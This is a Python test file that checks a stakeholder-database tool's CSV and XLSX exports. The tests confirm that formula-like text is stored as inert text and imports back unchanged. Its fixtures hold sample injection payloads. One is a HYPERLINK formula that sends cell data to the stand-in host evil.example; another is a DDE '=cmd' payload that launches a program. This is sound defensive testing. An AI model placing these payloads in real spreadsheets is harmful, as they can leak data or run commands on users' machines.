"""Text that a spreadsheet would run as a formula stays text in exported CSV and XLSX files, and an
exported file imports back to the exact original text."""

from __future__ import annotations

import csv

import openpyxl
import pytest
from stakeholder_files import write_text_table

from clusterdesk.core.edits import AddStakeholders
from clusterdesk.io.spreadsheet_text import csv_cell, text_from_csv_cell
from clusterdesk.io.stakeholder_export import export_stakeholders
from clusterdesk.io.stakeholder_import import build_import_plan

LINK_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_NAMES = [
    LINK_FORMULA,
    "=1+2",
    "+Plus Textiles",
    "-Minus Textiles",
    "@SUM(A1:A9)",
    "'Quoted Textiles",
    "'=not a formula",
    "''twice quoted",
    "#N/A",
]


@pytest.fixture
def hostile_project(new_project):
    rows = [
        {"name": name, "kind": "enterprise", "lon": -78.2 + i / 100, "lat": 0.33, "employees": 10 + i}
        for i, name in enumerate(HOSTILE_NAMES)
    ]
    rows[0].update(products="=cmd|'/c calc'!A1", notes="-2+3", phone="+593 6 290 6000")
    new_project.stack.push(AddStakeholders(rows))
    return new_project


@pytest.mark.parametrize(
    "text",
    [*HOSTILE_NAMES, "\tTab", "\rReturn", "'", "''", "'x", "plain", "", "'\t", "a=b"],
)
def test_csv_cells_read_back_as_the_original_text(text):
    written = csv_cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert text_from_csv_cell(written) == text


def test_only_formula_like_text_gets_a_quote_and_numbers_stay_numbers():
    assert csv_cell(LINK_FORMULA) == "'" + LINK_FORMULA
    assert csv_cell("'Quoted") == "'Quoted"  # no quote needed: read back unchanged
    assert csv_cell("Textiles Imbabura") == "Textiles Imbabura"
    assert csv_cell(-78.22) == -78.22 and csv_cell(-5) == -5 and csv_cell(None) is None


def test_exported_csv_cells_cannot_start_a_formula(tmp_path, hostile_project):
    out = tmp_path / "firms.csv"
    export_stakeholders(hostile_project, out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    assert rows[0]["name"] == "'" + LINK_FORMULA
    assert rows[0]["products"] == "'=cmd|'/c calc'!A1" and rows[0]["phone"] == "'+593 6 290 6000"
    assert rows[0]["longitude"] == "-78.2"  # a number, written as a number


def test_exported_xlsx_holds_text_cells_not_formulas(tmp_path, hostile_project):
    out = tmp_path / "firms.xlsx"
    export_stakeholders(hostile_project, out)
    sheet = openpyxl.load_workbook(out).active  # not data_only: formulas would show as formulas
    header = [cell.value for cell in sheet[1]]
    name, longitude = header.index("name") + 1, header.index("longitude") + 1
    names = [sheet.cell(row=row, column=name) for row in range(2, sheet.max_row + 1)]
    assert [cell.value for cell in names] == HOSTILE_NAMES
    assert {cell.data_type for cell in names} == {"s"}
    assert sheet.cell(row=2, column=name).quotePrefix  # Excel keeps it text when the cell is edited
    assert sheet.cell(row=2, column=longitude).data_type == "n"
    assert sheet.cell(row=2, column=longitude).value == pytest.approx(-78.2)


def _names_in_file(out) -> list[str]:
    """The name column as a spreadsheet program finds it in the file (text cells only in a workbook)."""
    if out.suffix == ".csv":
        with open(out, encoding="utf-8-sig", newline="") as handle:
            return [row["name"] for row in csv.DictReader(handle)]
    sheet = openpyxl.load_workbook(out).active
    column = [cell.value for cell in sheet[1]].index("name")
    return [row[column].value for row in sheet.iter_rows(min_row=2) if row[column].data_type == "s"]


@pytest.mark.parametrize("extension", [".csv", ".xlsx"])
def test_hostile_names_are_inert_in_the_file_and_import_back_exactly(tmp_path, hostile_project, extension):
    out = tmp_path / f"firms{extension}"
    export_stakeholders(hostile_project, out)
    quoted = [f"'{name}" for name in HOSTILE_NAMES[:5]]
    quoted += ["'Quoted Textiles", "''=not a formula", "'''twice quoted", "#N/A"]
    assert _names_in_file(out) == (quoted if extension == ".csv" else HOSTILE_NAMES)
    plan = build_import_plan(out)
    assert not plan.problems, plan.problems
    values = plan.checked.values
    assert values["name"] == HOSTILE_NAMES
    assert values["products"][0] == "=cmd|'/c calc'!A1"
    assert values["notes"][0] == "-2+3" and values["phone"][0] == "+593 6 290 6000"
    assert values["employees"] == [10 + i for i in range(len(HOSTILE_NAMES))]
    assert plan.checked.lon[0] == pytest.approx(-78.2)


def test_rejected_rows_file_keeps_formula_like_text_inert(tmp_path):
    table = [["name", "employees"], [LINK_FORMULA, "many"], ["@SUM(A1:A9)", "-3"], ["Fine", "4"]]
    source = write_text_table(
        tmp_path / "survey.csv", [[csv_cell(c) for c in row] for row in table], delimiter=","
    )
    plan = build_import_plan(source)
    rejected = plan.write_rejected()
    with open(rejected, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [row[2] for row in rows[1:]] == ["'" + LINK_FORMULA, "'@SUM(A1:A9)"]
    assert rows[2][3] == "'-3"
    assert build_import_plan(rejected).table.frame["name"].tolist() == [LINK_FORMULA, "@SUM(A1:A9)"]
